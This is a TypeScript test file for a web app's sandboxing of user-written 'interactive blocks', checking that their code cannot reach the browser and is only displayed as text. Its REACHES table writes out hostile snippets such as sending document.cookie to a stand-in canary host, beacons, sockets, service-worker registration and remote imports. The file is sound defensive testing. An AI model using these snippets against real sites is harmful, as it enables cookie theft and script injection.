import assert from "node:assert/strict";
import { CANARY, OWN, type WebCase } from "./web_probe.ts";
import { shareStage, testHostileViews, testOnStage } from "./web_stage.ts";

/** What a script of a block would do in a browser. There is no such script: each is the view's own code and handler. */
const REACHES: Readonly<Record<string, string>> = {
  "the page around it": `parent.document.title = "owned"`,
  "its own document": `document.title = "owned"; document.body.innerHTML = "<img src=${CANARY}/document>"`,
  "the address of the tab": `top.location = "${CANARY}/top"`,
  "its own address": `location.href = "${CANARY}/location"`,
  "a new window": `open("${CANARY}/open")`,
  "the storage": `localStorage.setItem("owned", "yes"); sessionStorage.owned = "yes"`,
  "the cookies": `document.cookie = "owned=yes"; new Image().src = "${CANARY}/" + document.cookie`,
  "fetch": `fetch("${CANARY}/fetch").catch(() => {})`,
  "XMLHttpRequest": `const x = new XMLHttpRequest(); x.open("GET", "${CANARY}/xhr"); x.send()`,
  "a beacon": `navigator.sendBeacon("${CANARY}/beacon", "x")`,
  "a picture": OWN,
  "a socket": `new WebSocket("${CANARY}/socket".replace("http", "ws"))`,
  "an event stream": `new EventSource("${CANARY}/stream")`,
  "WebRTC": `new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:3478" }] }).createDataChannel("x")`,
  "WebTransport": `new WebTransport("${CANARY}/transport".replace("http:", "https:"))`,
  "a nested frame":
    `const f = document.createElement("iframe"); f.srcdoc = "<script>${OWN}</script>"; document.body.append(f)`,
  "a worker": `new Worker(URL.createObjectURL(new Blob(["fetch('${CANARY}/worker')"])))`,
  "a service worker": `navigator.serviceWorker.register("${CANARY}/sw.js")`,
  "a message": `parent.postMessage({ kind: "owned" }, "*"); new BroadcastChannel("x").postMessage("owned")`,
  "an import": `new Function("return import('${CANARY}/import.js')")().catch(() => {})`,
  "eval": `(0, eval)("document.title = 'owned'"); new Function("document.title = 'owned'")()`,
};

/** What a page without a rule lets a script reach, in a browser that nobody has clicked in. */
const HEARD = [
  ...[
    "its own document",
    "the address of the tab",
    "its own address",
    "the cookies",
    "fetch",
    "XMLHttpRequest",
  ],
  ...["a beacon", "a picture", "a socket", "an event stream", "a nested frame", "a worker", "an import"],
];

testHostileViews(
  Object.entries(REACHES).map(([name, code]): WebCase => ({
    name: `116 the code of an interactive block does not reach the browser: ${name}`,
    nodes: [],
    code,
    ...(HEARD.includes(name) ? { premise: "load" } : {}),
  })),
);

const MARK = "a_mark_of_generated_code";
const marked: WebCase = { name: "marked", nodes: [], code: `globalThis.${MARK} = true;` };
const stage = shareStage([marked]);

testOnStage("116 nothing of an interactive block's code is sent to a page that shows it", async () => {
  const { tab: { page }, program, cards: [card] } = await stage();
  const sent: { readonly address: string; readonly text: string }[] = [];
  page.on("response", async (response) => {
    const text = await response.text().catch(() => "");
    sent.push({ address: response.url(), text });
  });
  for (const path of ["/", `/blocks/${card?.id}`, `/blocks/${card?.id}/card`]) {
    await page.goto(`${program.origin}${path}`, { waitUntil: "load" });
  }
  assert.ok(sent.length >= 3 && sent.some(({ text }) => text.includes("block-body")), "the card was sent");
  assert.deepEqual(sent.filter(({ text }) => text.includes(MARK)).map(({ address }) => address), []);
  assert.equal(await page.evaluate((name) => name in globalThis, MARK), false);
});

testOnStage("116 the page that lists the code shows it as text", async () => {
  const { tab: { page }, program, cards: [card] } = await stage();
  await page.goto(`${program.origin}/blocks/${card?.id}?tab=code`);
  assert.ok((await page.locator("main").innerText()).includes(MARK));
  assert.equal(await page.evaluate((name) => name in globalThis, MARK), false);
});
